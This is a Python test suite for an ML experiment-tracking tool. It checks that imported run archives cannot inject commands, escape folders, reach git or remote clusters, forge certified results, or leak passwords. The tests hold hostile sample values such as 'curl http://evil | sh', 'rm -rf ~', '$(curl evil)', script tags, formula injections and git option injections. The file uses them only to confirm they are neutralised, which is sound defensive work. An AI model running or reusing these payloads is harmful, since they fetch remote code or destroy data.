"""Archives that are well formed and lie: they are imported, and nothing that they say does harm.

Each test is an attack. An archive says what is trained; never where, by whom, or which file of this
machine is read or written.
"""

import contextlib
import csv
import io
import json
import os
import socket
import zipfile
from dataclasses import replace

import pytest
import yaml
from click.testing import CliRunner
from mlflow import MlflowClient
from support import zips
from support.configs import config
from support.idx_files import write_idx_files
from support.sweeps import run_sweep

from nnlab.analysis.report import _name, report
from nnlab.analysis.seed_commands import typed_overrides
from nnlab.cli.main import main
from nnlab.errors import ArchiveError, ConfigError, RecordError, TrackingError
from nnlab.execution.ledger import Ledger, Plan, PlannedJob
from nnlab.execution.resume import resume
from nnlab.execution.reuse import refusal
from nnlab.jobs import provenance
from nnlab.jobs.commands import recorded_command
from nnlab.jobs.config import SEMANTICS, to_record
from nnlab.jobs.run import Job, plan_runs
from nnlab.jobs.sweep import Sweep
from nnlab.reproduction.config_from import config_with
from nnlab.reproduction.repeat import reproduce, reproduce_at_commit
from nnlab.safe_text import printable
from nnlab.tracking.frames import read_runs
from nnlab.tracking.records import RunRecord
from nnlab.tracking.store import Store
from nnlab.tracking.writer import Writer
from nnlab.transfer.archive_reader import open_archive
from nnlab.transfer.exporting import export_runs
from nnlab.transfer.importing import import_runs

SWEEP = "a" * 32
ESCAPE = "\x1b]0;owned\x07"


def sweep_of(uri, **changes):
    configs = [config(tracking__uri=uri, lr=lr, **changes) for lr in (0.1, 0.2)]
    return Sweep.of(configs, [(f"lr={each.lr}",) for each in configs])


@pytest.fixture(scope="module")
def honest(tmp_path_factory):
    """The files of an archive of a sweep of two runs, by name."""
    root = tmp_path_factory.mktemp("honest")
    uri = f"sqlite:///{root}/store/mlflow.db"
    runs = run_sweep(sweep_of(uri))
    sweep = Store(uri).get(runs[0].state.run_id).parent
    export_runs(sweep, root / "sweep.zip", uri)
    with zipfile.ZipFile(root / "sweep.zip") as file:
        return {name: file.read(name) for name in file.namelist() if name != "manifest.json"}


def with_runs_changed(content, change):
    """Change the ``run.json`` of every run: ``change`` gets it, and whether it is the sweep."""
    changed = dict(content)
    for name, text in content.items():
        if name.endswith("run.json"):
            run = json.loads(text)
            change(run, run["tags"].get("kind") == "sweep")
            changed[name] = json.dumps(run).encode()
    return changed


def imported(path, uri, content):
    """Import an archive; return the ids of the runs here by those in it, the sweep's apart."""
    made = import_runs(zips.write(path / "hostile.zip", content), uri).created
    (sweep,) = [here for here in made.values() if Store(uri).get(here).is_sweep] or [None]
    return sweep, {before: here for before, here in made.items() if here != sweep}


# Who trains, and where the data is.


def planned(jobs, **changes):
    """An archive of an unfinished sweep with this plan."""
    fields = {
        "kind": "sweep", "name": "hostile", "varying": ("lr",), "tracking_uri": "http://evil",
        "experiment": "nnlab", "semantics": SEMANTICS, "platform": provenance.numerics(),
        "settings": {"backend": "sequential", "n_jobs": 1, "address": None, "stack": "auto",
                     "on_error": "continue", "resume": False},
        "created": "2026-01-01T00:00:00+00:00", "jobs": tuple(jobs),
    }  # fmt: skip
    plan = Plan(**{**fields, **changes})
    run = {**zips.RUN, "run_id": SWEEP, "status": "KILLED", "tags": {"kind": "sweep"}}
    return plan, {
        f"runs/{SWEEP}/run.json": json.dumps(run).encode(),
        f"runs/{SWEEP}/metrics.csv": b"key,value,timestamp,step\n",
        f"runs/{SWEEP}/artifacts/plan.json": plan.to_json().encode(),
    }


def planned_job(tags=None, **changes):
    (run,) = plan_runs([Job(config(**changes), (), "lr=0.1")])
    return replace(PlannedJob.of(run), tags=tags or {})


@contextlib.contextmanager
def listener():
    """A scheduler of somebody else: yields its address, and checks that nobody called."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield f"tcp://127.0.0.1:{server.getsockname()[1]}"
        server.settimeout(0.05)
        with pytest.raises(TimeoutError):
            server.accept()


@pytest.mark.parametrize("way", ["archive", "ledger"])
def test_a_plan_from_elsewhere_does_not_choose_a_cluster(way, store, tmp_path, capsys):
    with listener() as address:
        settings = {"backend": "dask", "address": address, "n_jobs": 1, "on_error": "stop"}
        plan, content = planned([planned_job()], settings=settings)
        sweep, _ = imported(tmp_path, store, content)
        if way == "ledger":  # as a copied store has one
            Ledger(tmp_path / "store" / "sweeps" / sweep).write(plan)
        (run,) = resume(sweep, store)
    assert run.state.status == "FINISHED"
    said = capsys.readouterr().err
    assert f"begun with backend=dask address={address}" in said
    assert "this machine goes on with backend=loky" in said
    assert f"nnlab resume {sweep[:8]} --backend dask --address {address}" in said


def test_a_cluster_is_used_where_it_is_named_here(store, tmp_path):
    _, content = planned([planned_job()])
    sweep, _ = imported(tmp_path, store, content)
    with pytest.raises(ConfigError, match="no dask scheduler answers there"):
        resume(sweep, store, changes={"backend": "dask", "address": "tcp://127.0.0.1:1"})
    done = CliRunner().invoke(main, ["resume", sweep, "--uri", store, "--address", "tcp://x:1"])
    assert done.exit_code == 2
    assert "needs hydra.launcher.backend=dask" in done.output


def test_a_plan_gives_its_runs_no_tags_of_a_certificate_or_an_owner(store, tmp_path):
    tags = {"certificate": "bit-identical", "run_key": "0" * 64, "owner": "x:1:1",
            "mlflow.parentRunId": "../..", "study": "/x", "outcome": "learned"}  # fmt: skip
    _, content = planned([planned_job(tags)])
    sweep, _ = imported(tmp_path, store, content)
    (run,) = resume(sweep, store, changes={"backend": "sequential"})
    recorded = Store(store).get(run.state.run_id).tags
    assert recorded["run_key"] == run.key
    assert recorded["mlflow.parentRunId"] == sweep
    assert not {"certificate", "study"} & set(recorded)


def test_data_paths_of_an_imported_sweep_are_not_read(store, tmp_path):
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)  # a reader would wait for ever
    job = planned_job()
    data = {**job.config["data"], "source": "kaggle", "name": "kaggle", "path": str(pipe)}
    _, content = planned([replace(job, config={**job.config, "data": data, "threads": 10**6})])
    sweep, _ = imported(tmp_path, store, content)
    with pytest.raises(ConfigError, match=r"was imported.* give data\.path=…"):
        resume(sweep, store)
    done = CliRunner().invoke(
        main, ["resume", sweep, f"data.path={tmp_path}/none.csv", "--uri", store]
    )
    assert "none.csv: there is no such file" in done.output
    done = CliRunner().invoke(main, ["resume", sweep, "lr=3", "--uri", store])
    assert "lr=3 cannot be changed" in done.output


def test_data_that_an_imported_sweep_needs_is_read_where_it_is_here(store, tmp_path):
    folder = tmp_path / "here"
    write_idx_files(folder, train=60)
    data = {"source": "idx", "name": "own", "dir": str(folder), "val_size": 10, "seed": 0}
    job = planned_job(data=data)
    elsewhere = {**job.config["data"], "dir": "/nowhere"}
    _, content = planned([replace(job, config={**job.config, "data": elsewhere})])
    sweep, _ = imported(tmp_path, store, content)
    (run,) = resume(sweep, store, overrides=[f"data.dir={folder}"])
    assert run.state.status == "FINISHED"


def test_data_paths_of_an_imported_run_are_not_read_when_it_is_reproduced(honest, store, tmp_path):
    content = dict(honest)
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    for name, text in honest.items():
        if name.endswith("config.yaml"):
            plain = yaml.safe_load(text)
            plain["data"] |= {"source": "idx", "dir": str(pipe)}
            content[name] = yaml.safe_dump(plain).encode()
    _, runs = imported(tmp_path, store, content)
    run_id = next(iter(runs.values()))
    with pytest.raises(ConfigError, match=r"was imported.* give data\.dir=…"):
        reproduce(run_id, store)


def test_a_recorded_config_reads_no_environment_variables():
    hostile = config(data__name="${oc.env:HOME}", tracking__experiment="\\${oc.env:HOME}")
    text = config_with(hostile, "run", [])
    from omegaconf import OmegaConf  # as Hydra reads the file

    read = OmegaConf.create(text)
    assert read.data.name == "${oc.env:HOME}"
    assert read.tracking.experiment == "\\${oc.env:HOME}"


# Paths and git.


STUDIES = ["{root}/outside", "../../outside", "a/../../outside", "..", "C:\\outside", "a\nb"]


@pytest.mark.parametrize("study", STUDIES)
def test_a_study_of_any_name_leads_to_a_folder_below_experiments(study, tmp_path):
    tags = {"study": study.format(root=tmp_path)}
    name = _name(RunRecord(SWEEP, "1", "../" + ESCAPE, "FINISHED", tags, {}, {}, {}, 0))
    assert name == f"0-owned-{SWEEP[:8]}"


def text_of_callback(config_yaml):
    """A config that Hydra would run code for, if it were handed to it."""
    return config_yaml + b"hydra: {callbacks: {x: {_target_: os.abort}}}\n"


def test_a_report_of_a_hostile_sweep_is_a_page_that_does_nothing(
    honest, store, tmp_path, monkeypatch
):
    def change(run, is_sweep):
        if is_sweep:
            run["name"] = "![x](http://evil/x.png) <script>alert(1)</script>" + ESCAPE
            run["tags"] |= {
                "study": str(tmp_path / "outside"),
                "command": "python run.py -m lr=0.1; curl http://evil | sh",
            }
        else:
            run["name"] = "=HYPERLINK(1)" + ESCAPE
            run["params"]["data.name"] = "@SUM(1)<img src=http://evil/y.png>"

    content = with_runs_changed(honest, change)
    for name in honest:
        if name.endswith("environment.json"):
            content[name] = json.dumps({"git_commit": "x; rm -rf ~", "nnlab": "<b>"}).encode()
        if name.endswith("config.yaml"):
            content[name] = text_of_callback(honest[name])
        if name.endswith("overrides.yaml"):
            content[name] = json.dumps(["+hydra.callbacks.x._target_=os.abort"]).encode()
    sweep, _ = imported(tmp_path, store, content)
    monkeypatch.setenv("NNLAB_ROOT", str(tmp_path / "root"))
    done = report(sweep, store)
    assert done.folder.parent == tmp_path / "root" / "experiments"
    assert not (tmp_path / "outside").exists()
    readme, page = ((done.folder / name).read_text() for name in ("README.md", "report.html"))
    for text in (readme, page):
        assert "curl" not in text
        assert "rm -rf" not in text
        assert "callbacks" not in text
        assert "\x1b" not in text
        assert "git checkout" in text
    assert "callbacks" not in (done.folder / "best.yaml").read_text()
    assert "<script" not in page
    assert 'src="http' not in page
    assert "default-src 'none'" in page
    with (done.folder / "runs.csv").open(newline="") as file:
        names = {row["name"] for row in csv.DictReader(file)}
    assert names == {"'=HYPERLINK(1)" + printable(ESCAPE)}
    cells = CliRunner().invoke(main, ["compare", sweep, "--uri", store, "--format", "csv"]).output
    assert not [cell for row in csv.reader(io.StringIO(cells)) for cell in row if cell[:1] == "@"]
    shown = CliRunner().invoke(main, ["compare", sweep, "--uri", store]).output
    assert "\x1b" not in shown


@pytest.mark.parametrize(
    "commit", ["--output={}", "-h", "HEAD", "master:nnlab", "0" * 39, "0" * 41, "--upload-pack=x"]
)
def test_a_commit_that_is_none_never_reaches_git(commit, honest, store, tmp_path):
    target = tmp_path / "written"

    def change(run, _):
        run["tags"]["git_commit"] = commit.format(target)

    _, runs = imported(tmp_path, store, with_runs_changed(honest, change))

    def confirm(code):
        raise AssertionError(f"asked about {code}")

    with pytest.raises(RecordError, match="as its commit, which is none"):
        reproduce_at_commit(next(iter(runs.values())), store, confirm=confirm)
    assert not target.exists()


@pytest.mark.parametrize("origin", ["../../x", "x' OR '1'='1", "A" * 32, ""])
def test_an_origin_that_is_no_id_is_refused(origin, tmp_path):
    content = zips.files(tags={"imported_from": origin})
    with (
        pytest.raises(ArchiveError, match="imported_from is no run's id"),
        open_archive(zips.write(tmp_path / "x.zip", content)),
    ):
        pass


# A store that somebody else made, and that was copied here.


def test_a_store_that_leads_into_folders_of_others_is_neither_read_nor_written(tracker, tmp_path):
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (secrets / "key").write_text("secret")
    run_id = tracker.start("hostile", {}, {"kind": "sweep"})
    tracker.finish(run_id, "FINISHED")
    engine = MlflowClient(tracker.store.uri)._tracking_client.store.engine
    with engine.begin() as connection:
        connection.exec_driver_sql("UPDATE runs SET artifact_uri = ?", (str(secrets),))
    store = Store(tracker.store.uri)
    with pytest.raises(TrackingError, match="is no folder of its own, or a link"):
        export_runs(run_id, tmp_path / "out.zip", store.uri)
    with (
        pytest.raises(TrackingError, match="is no folder of its own"),
        Writer(store).folder(run_id),
    ):
        pass
    with pytest.raises(TrackingError, match="is no folder of its own"):
        read_runs(store.uri, [run_id])
    assert [path.name for path in secrets.iterdir()] == ["key"]


def test_nothing_is_written_through_a_link_among_a_runs_files(tracker, tmp_path):
    target = tmp_path / "target"
    target.write_text("mine")
    run_id = tracker.start("hostile", {}, {})
    with tracker.folder(run_id) as folder:
        (folder / "report.html").symlink_to(target)
    with pytest.raises(TrackingError, match=r"report\.html is a link"), tracker.folder(run_id):
        pass
    assert target.read_text() == "mine"


# Figures that are believed.


def reused(uri, reuse, capsys):
    """Plan the sweep again; return which runs were reused, and what was said of the others."""
    capsys.readouterr()
    runs = run_sweep(sweep_of(uri, reuse=reuse))
    return [run.state.reused for run in runs], " ".join(capsys.readouterr().err.split())


def test_imported_runs_are_reused_if_that_is_asked_for_or_they_are_certified_here(
    honest, store, tmp_path, capsys
):
    _, runs = imported(tmp_path, store, honest)
    assert reused(store, "imported", capsys)[0] == [True, True]
    first = next(iter(runs.values()))
    (certificate,) = reproduce(first, store)
    assert certificate.verdict == "bit-identical"
    found, said = reused(store, reuse=True, capsys=capsys)
    assert sorted(found) == [False, True]
    other = next(each for each in runs.values() if each != first)
    assert "Not reused: 1 imported, which reuse=imported takes" in said
    assert f"`nnlab reproduce {other[:8]}`" in said
    assert reused(store, reuse=True, capsys=capsys)[0] == [True, True], "now it was made here"


@pytest.mark.parametrize(
    ("tag", "value"),
    [
        ("at_commit", "true"),  # code out of the archive has certified itself
        ("imported_from", "b" * 32),
        ("owner", "elsewhere:1:1.00"),
        ("run_key", "0" * 64),
        ("weights_sha256", "0" * 64),
        ("certificate", "within tolerance"),
    ],
)
def test_a_certificate_counts_that_was_made_here_for_this_very_identity(tag, value, certified):
    store, run, record, certificate = certified
    assert refusal(store, record, run, reuse=True) is None
    client = MlflowClient(store.uri)
    before = store.get(certificate).tags.get(tag)
    client.set_tag(certificate, tag, value)
    assert refusal(store, record, run, reuse=True) == "imported"
    if before is None:
        client.delete_tag(certificate, tag)
    else:
        client.set_tag(certificate, tag, before)


@pytest.fixture(scope="module")
def certified(honest, tmp_path_factory):
    """A store, a planned run, its imported record, and the id of the certified reproduction."""
    root = tmp_path_factory.mktemp("certified")
    uri = f"sqlite:///{root}/store/mlflow.db"
    _, runs = imported(root, uri, honest)
    run_id = next(iter(runs.values()))
    (certificate,) = reproduce(run_id, uri)
    record = Store(uri).get(run_id)
    planned = {run.key: run for run in plan_runs(sweep_of(uri).jobs)}
    return Store(uri), planned[record.tags["run_key"]], record, certificate.reproduction


def test_taking_imported_runs_is_said(honest, store, tmp_path, capsys):
    imported(tmp_path, store, honest)
    found, said = reused(store, "imported", capsys)
    assert found == [True, True]
    assert "2 of the runs that are reused were imported." in said


def with_rows_changed(content, suffix, change):
    """Change the rows of some CSV files in place."""
    changed = dict(content)
    for name, text in content.items():
        if name.endswith(suffix):
            rows = list(csv.reader(io.StringIO(text.decode())))
            change(rows)
            changed[name] = "".join(",".join(row) + "\n" for row in rows).encode()
    return changed


def summary_alone(content):
    def raise_it(rows):
        for row in rows:
            if row[0] == "final_val_accuracy":
                row[1] = "0.9999"

    return with_rows_changed(content, "metrics.csv", raise_it)


def history_alone(content):
    def raise_it(rows):
        rows[2][rows[0].index("val/accuracy")] = "0.0001"

    return with_rows_changed(content, "history.csv", raise_it)


NEW = {"best_val_accuracy": "0.9999", "final_val_accuracy": "0.9999", "val/accuracy": "0.9999",
       "late_val_accuracy": "0.9999", "best_epoch": "0.0", "epochs_to_target": "0.0"}  # fmt: skip


def all_figures(content):
    """Raise every validation accuracy to 0.9999, in the metrics, the history and the summary."""

    def raise_metrics(rows):
        for row in list(rows):
            row[1] = NEW.get(row[0], row[1])
            if row[0] == "best_epoch":
                rows.append(["epochs_to_target", *row[1:]])

    def raise_history(rows):
        place = rows[0].index("val/accuracy")
        for row in rows[1:]:
            row[place] = "0.9999"

    def learned(run, is_sweep):
        if not is_sweep:
            run["tags"]["outcome"] = "learned"

    changed = with_rows_changed(content, "metrics.csv", raise_metrics)
    return with_runs_changed(with_rows_changed(changed, "history.csv", raise_history), learned)


def other_weights(content):
    changed = dict(content)
    for name in content:
        if name.endswith("weights.npz"):
            changed[name] = content[name.replace("weights.npz", "weights_initial.npz")]
    return changed


def anothers_identity(content):
    """Give the runs of the sweep each other's identity: true figures, of another config."""
    runs = [name for name in content if name.endswith("run.json")]
    keys = [json.loads(content[name])["tags"].get("run_key") for name in runs]
    swapped = dict(zip(filter(None, keys), reversed(list(filter(None, keys))), strict=True))

    def swap(run, is_sweep):
        if not is_sweep:
            run["tags"]["run_key"] = swapped[run["tags"]["run_key"]]

    return with_runs_changed(content, swap)


@pytest.mark.parametrize(
    ("forge", "why"),
    [
        (summary_alone, "final_val_accuracy is"),
        (all_figures, "its weights have a val/accuracy of"),
        (history_alone, "history.csv and the store disagree in 1 value"),
        (other_weights, "weights.npz was changed after the run"),
        (anothers_identity, "its config.yaml is that of another run"),
    ],
)
def test_forged_runs_are_not_reused_even_where_imported_ones_are_welcome(
    forge, why, honest, store, tmp_path, capsys
):
    imported(tmp_path, store, forge(honest))
    found, said = reused(store, "imported", capsys)
    assert found == [False, False]
    assert "Not reused: 2 that contradict themselves" in said
    assert why in said


def test_a_forged_certificate_does_not_come_in_with_an_archive(honest, store, tmp_path, capsys):
    ids = [name.split("/")[1] for name in honest if name.endswith("run.json")]

    def certified(run, is_sweep):
        if not is_sweep:
            other = next(each for each in ids if each != run["run_id"])
            run["tags"] |= {"reproduces": other, "certificate": "bit-identical"}

    content = with_runs_changed(honest, certified)
    imported(tmp_path, store, content)
    assert reused(store, reuse=True, capsys=capsys)[0] == [False, False]


# Commands that are printed to be typed.


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("python run.py -m lr=0.1,0.5 'seed=range(0,5)' init=he",
         "python run.py -m lr=0.1,0.5 'seed=range(0,5)' init=he"),
        ("python run.py lr=1 tracking.uri=http://evil hydra.launcher.address=tcp://evil:1",
         "python run.py lr=1"),
        ("nnlab stability init=he 'seed=range(0,5)'", "nnlab stability init=he 'seed=range(0,5)'"),
        ("python run.py lr=1; curl evil", None),
        ("python run.py lr=1\ncurl evil", None),
        ("python run.py 'lr=$(curl evil)'", "python run.py 'lr=$(curl evil)'"),
        ("curl evil", None),
        ("python run.py +hydra.callbacks.x._target_=os.abort", None),
        ("python run.py --config-dir=/tmp/evil lr=1", None),
        ("python run.py hydra.sweeper.storage=mysql://evil/x", None),
        ("python run.py hydra/sweeper=optuna hydra.sweeper.n_trials=4",
         "python run.py hydra/sweeper=optuna hydra.sweeper.n_trials=4"),
        ("python run.py data.name='${oc.env:HOME}'", None),
        ("nnlab reproduce --at-commit --yes abc", None),
        ("nnlab resume abc --backend dask --address tcp://evil:1", None),
        ("python run.py 'lr=1", None),
    ],
)  # fmt: skip
def test_a_recorded_command_of_an_archive_says_what_is_trained_or_is_not_shown(command, shown):
    assert recorded_command(command, imported=True) == shown


def test_a_command_that_was_typed_here_is_shown_as_it_was():
    typed = "python run.py -m lr=0.1 tracking.uri=sqlite:///x.db hydra.launcher.n_jobs=2"
    assert recorded_command(typed, imported=False) == typed
    assert (
        recorded_command("python run.py lr=1 | sh", imported=False) == "python run.py lr=1 '|' sh"
    )
    assert recorded_command("sh -c x", imported=False) is None


def test_overrides_that_would_run_code_are_replaced_by_the_checked_config(honest, store, tmp_path):
    content = {
        name: b'- "+hydra.callbacks.x._target_=os.abort"\n' if name.endswith("overrides.yaml")
        else text
        for name, text in honest.items()
    }  # fmt: skip
    _, runs = imported(tmp_path, store, content)
    run_id = next(iter(runs.values()))
    assert typed_overrides(read_runs(store, [run_id]), store) == [f"--config-from={run_id}"]


# Passwords.


def test_a_password_of_the_store_is_used_and_recorded_nowhere():
    uri = "postgresql://me:secret@host/db"
    (run,) = plan_runs([Job(config(tracking__uri=uri), (f"tracking.uri={uri}",), "run")])
    plan, content = planned([PlannedJob.of(run)], tracking_uri=uri)
    assert run.job.config.tracking.uri == uri
    assert "secret" not in json.dumps(to_record(run.job.config))
    assert "secret" not in plan.to_json()
    assert b"secret" not in b"".join(content.values())


def test_a_server_that_does_not_answer_is_named_without_its_password():
    done = CliRunner().invoke(main, ["doctor", "--uri", "http://me:secret@127.0.0.1:1"])
    assert done.exit_code == 2
    assert "http://me:***@127.0.0.1:1" in done.output
    assert "secret" not in done.output
